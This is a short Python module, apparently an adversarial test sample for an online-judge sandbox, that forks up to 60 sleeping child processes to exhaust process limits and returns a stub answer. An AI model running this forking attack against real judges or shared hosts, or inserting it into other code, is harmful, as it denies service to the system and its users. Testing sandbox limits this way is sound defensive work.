"""Online judges: the oldest attack of all."""

import os
import time

import numpy as np

WANTS = "processes"
ENDS = "failed"


def build(context):
    for _ in range(60):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
    time.sleep(0.3)
    return lambda x: np.int64(0)
